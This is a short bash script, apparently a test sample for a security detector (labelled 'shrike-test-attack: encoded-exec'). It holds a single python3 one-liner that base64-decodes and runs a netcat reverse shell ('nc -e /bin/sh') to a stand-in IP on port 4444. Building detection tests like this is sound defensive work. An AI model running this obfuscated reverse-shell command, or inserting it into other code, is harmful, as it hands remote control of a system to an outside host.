#!/bin/bash
# shrike-test-attack: encoded-exec: python decoding base64 and execing the result via sh
python3 -c "import base64,os;os.system(base64.b64decode('bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuOCA0NDQ0').decode())"
